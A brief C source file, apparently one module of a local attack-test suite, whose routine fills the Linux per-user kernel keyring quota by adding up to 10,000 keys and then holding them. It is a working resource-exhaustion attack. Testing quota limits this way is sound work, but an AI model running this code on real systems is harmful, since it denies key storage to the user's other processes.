/* Uses up the keys that a user may have (keyrings(7), kernel.keys.maxkeys). */
#include "common/attack.h"

static void attempt(void) {
    char name[32];
    int made = 0;
    for (int n = 0; n < 5000; n++) {
        snprintf(name, sizeof name, "flood-%d", n);
        made += syscall(SYS_add_key, "user", name, "x", 1, -2) > 0;
        made += syscall(SYS_add_key, "user", name, "x", 1, -4) > 0;
    }
    printf("%d keys\n", made);
    hold();
}
